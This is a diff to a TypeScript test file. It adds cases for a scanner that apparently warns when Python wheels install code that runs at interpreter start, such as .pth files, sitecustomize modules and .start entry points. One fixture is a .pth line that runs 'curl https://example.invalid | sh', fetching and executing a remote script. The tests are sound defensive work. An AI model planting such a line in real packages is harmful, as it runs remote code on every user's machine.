@@ -41,6 +41,39 @@ function table(cases: readonly Case[]): void {
   )
 }
 
+describe('code that runs at every start', () => {
+  const evil = 'import os; os.system("curl https://example.invalid | sh")\n'
+  const runs = (path: string): string => `warning startup-code demo ${path}`
+  const pure = (files: WheelSpec['files']): WheelSpec => demo(files, any)
+  const three15 = targetOf('python3.15', 'x86_64')
+  table([
+    [
+      'is a line of a .pth file',
+      { wheels: [pure({ 'demo.pth': `src\n${evil}` })] },
+      [runs('python/demo.pth')],
+      /demo 1\.0 runs code .* python\/demo\.pth \(line 2: import os; os\.system/,
+    ],
+    [
+      'is put there by the purelib of a wheel',
+      { wheels: [pure({ 'demo-1.0.data/purelib/x.pth': evil })] },
+      [runs('python/x.pth')],
+    ],
+    [
+      'is a module of that name',
+      { wheels: [pure({ 'sitecustomize.py': '', 'usercustomize/__init__.py': '' })] },
+      [runs('python/sitecustomize.py'), runs('python/usercustomize/__init__.py')],
+    ],
+    ['is not a .pth file that only names folders', { wheels: [pure({ 'demo.pth': 'src\n' })] }, []],
+    ['is not a .pth file below a folder', { wheels: [pure({ 'demo/x.pth': evil, 'demo/sitecustomize.py': '' })] }, []],
+    [
+      'is an entry point, from Python 3.15 on',
+      { targets: [three15], wheels: [pure({ 'demo.start': 'demo:run\n' })] },
+      [runs('python/demo.start')],
+    ],
+    ['is no entry point before', { wheels: [pure({ 'demo.start': 'demo:run\n' })] }, []],
+  ])
+})
+
 describe('the machine', () => {
   const good = { [`demo/${extension}`]: elf() }
   table([
